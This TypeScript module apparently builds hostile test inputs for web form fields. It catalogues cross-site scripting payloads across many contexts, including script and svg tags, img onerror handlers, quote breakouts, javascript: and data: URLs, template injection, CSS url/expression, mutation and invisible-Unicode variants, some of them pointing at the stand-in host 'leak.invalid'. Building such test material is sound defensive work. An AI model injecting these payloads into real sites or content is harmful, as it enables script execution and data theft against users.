/** The host that no page may ask for anything. */
export const leakHost = 'leak.invalid';

/** The function that a payload calls with the name of its field, once it runs. Short, so that it fits into every field. */
export const alarm = '__x';

/** The payloads of one context for a field, the best first; the first that fits is taken. */
type Payloads = (field: string) => string[];

const call = (field: string): string => `${alarm}('${field}')`;
const image = (field: string): string => `<img src onerror=${call(field)}>`;
const leak = (field: string): string => `https://${leakHost}/${field}`;

/** Longer than any line on a page, and within what the API takes. */
const longLength = 4_000;

/** One payload for each way in which a text may become markup, code or an address. */
const payloads = {
  script: (field) => [
    `<script>${call(field)}</script><script src=${leak(field)}></script>`,
    `<script>${call(field)}</script>`,
  ],
  image: (field) => [`<img src=${leak(field)} srcset="${leak(field)} 2x" onerror="${call(field)}">`],
  svg: (field) => [
    `<svg onload=${call(field)}><image href=${leak(field)} /><script>${call(field)}</script></svg>`,
    `<svg onload=${call(field)}>`,
  ],
  doubleQuote: (field) => [
    `" autofocus onfocus="${call(field)}" onmouseover="${call(field)}" x="">${image(field)}`,
    `">${image(field)}`,
  ],
  singleQuote: (field) => [
    `' autofocus onfocus='${alarm}("${field}")' onmouseover='${alarm}("${field}")' x=''>${image(field)}`,
    `'>${image(field)}`,
  ],
  javascriptUrl: (field) => [` java\tscript\n:${call(field)}//`, `javascript:${call(field)}`],
  dataUrl: (field) => [`data:text/html,<script>${call(field)}</script>`, `data:text/html,${image(field)}`],
  otherHost: (field) => [`//${leakHost}/${field}?${call(field)}`, `//${leakHost}/${field}`],
  template: (field) => [
    `{{constructor.constructor("${call(field)}")()}}\${${call(field)}}<%= ${call(field)} %>`,
    `\${${call(field)}}`,
  ],
  entities: (field) => [
    `&lt;img src onerror=${call(field)}&gt;&#60;img src onerror=${call(field)}&#62;\\u003cimg src onerror=${call(field)}\\u003e`,
    `&lt;img src onerror=${call(field)}&gt;`,
  ],
  css: (field) => [
    `red;background:url(${leak(field)});width:expression(${call(field)})}*{background:url(${leak(field)})}@import "${leak(field)}";`,
    `red;background:url(${leak(field)})`,
  ],
  closers: (field) => [
    `</style></title></textarea></script></noscript></template></svg>${image(field)}`,
    `</title>${image(field)}`,
  ],
  frames: (field) => [
    `<iframe srcdoc="<script>${call(field)}</script>"></iframe><link rel=stylesheet href=${leak(field)}><object data=${leak(field)}></object>` +
      `<base href=${leak(field)}><form action=${leak(field)}><meta http-equiv=refresh content="0;url=${leak(field)}">`,
    `<iframe src="javascript:${call(field)}">`,
  ],
  mutation: (field) => [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${call(field)}&gt;">${image(field)}`,
  ],
  invisible: (field) => [
    `\u202e\u2066\u200b\ufeff<i\u200bmg src>${image(field)}\u2069\u200d\u00ad`,
    `\u202e${image(field)}`,
  ],
  long: (field) => [image(field).repeat(Math.floor(longLength / image(field).length))],
  inherited: () => ['valueOf'],
} satisfies Record<string, Payloads>;

/** A context that payloads are made for. */
export type TextKind = keyof typeof payloads;

/** Every context. */
export const textKinds = Object.keys(payloads).filter((name): name is TextKind => name in payloads);

/** Texts that do nothing in a page that escapes nothing: they are for templates, for a second decoding, for look-ups by name. */
export const harmlessKinds: readonly TextKind[] = ['template', 'entities', 'inherited'];

/**
 * A payload of a kind for a field that holds at most `max` characters. A short field gets the part that fits; a payload cut in
 * half would test nothing, so a bare image stands for those that do not fit at all.
 */
export function buildHostileText(kind: TextKind, field: string, max = longLength): string {
  const all: string[] = [...payloads[kind](field), image(field), `<svg onload=${alarm}()>`];
  return all.find((text) => text.length <= max) ?? all[all.length - 1]?.slice(0, max) ?? '';
}

/** The names of the fields whose payloads are in a text. */
export function listFields(text: string): string[] {
  return [...text.matchAll(/__x\(["']([\w.]+)["']\)/g)].flatMap(([, field]) => (field === undefined ? [] : [field]));
}
